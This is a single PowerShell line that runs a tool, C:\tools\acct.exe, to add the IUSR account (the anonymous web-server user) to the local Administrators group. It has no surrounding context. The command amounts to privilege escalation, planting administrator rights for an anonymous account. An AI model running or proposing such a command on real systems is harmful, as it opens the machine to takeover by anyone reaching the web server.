Start-Process C:\tools\acct.exe -ArgumentList 'add','IUSR','Administrators'
